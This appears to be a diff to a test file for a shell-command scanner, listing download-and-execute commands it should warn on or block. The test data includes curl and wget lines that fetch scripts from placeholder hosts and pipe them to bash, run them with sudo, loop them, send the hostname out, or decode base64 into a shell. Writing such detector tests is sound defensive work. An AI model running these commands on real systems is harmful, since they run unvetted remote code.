@@ -7,7 +7,7 @@ const base64 = (text: string) => Buffer.from(text).toString("base64");
 test.each([
   ["on the next line", "curl -o /tmp/a.sh https://tools.dev/a.sh\nbash /tmp/a.sh", "warn downloaded_script:2"],
   ["on the same line", "wget https://tools.dev/a.sh && sh a.sh", "warn downloaded_script:1"],
-  ["made executable first", "curl -LO http://tools.dev/tool\nchmod +x tool\n./tool", "block downloaded_script:3"],
+  ["made executable first", "curl -LO http://tools.dev/tool\nchmod +x tool\n./tool", "block downloaded_script:2"],
   ["redirected", "curl https://tools.dev/a.py > setup.py; python3 setup.py", "warn downloaded_script:1"],
   ["from a raw address", "wget http://203.0.113.9/a.sh -O x.sh; sudo bash x.sh", "block downloaded_script:1"],
   ["from a known installer", "curl https://sh.rustup.rs -o rustup.sh\nsh rustup.sh -y", "info downloaded_script:2"],
@@ -22,6 +22,11 @@ test.each([
   ["without a word in the background", "curl -s https://tools.dev/x | bash >/dev/null 2>&1 &", "block remote_code:1"],
   ["with the machine's name along", "curl -s https://tools.dev/x?h=$(hostname) | sh", "block remote_code:1"],
   ["over and over", "while true; do curl -s https://tools.dev/x | sh; sleep 60; done", "block remote_code:1"],
+  [
+    "left for something else to start",
+    "wget -qO /opt/a http://203.0.113.9/a && chmod +x /opt/a",
+    "block downloaded_script:1",
+  ],
   ["hidden by a decoder", `echo ${base64("touch a")} | base64 -d | sh`, "block decoded_execution:1"],
   ["hidden in a variable", `P=${base64("touch a")}\neval "$(echo $P | base64 --decode)"`, "block decoded_execution:2"],
   ["hidden behind itself", "tail -n +9 $0 | base64 -d | bash", "block decoded_execution:1"],
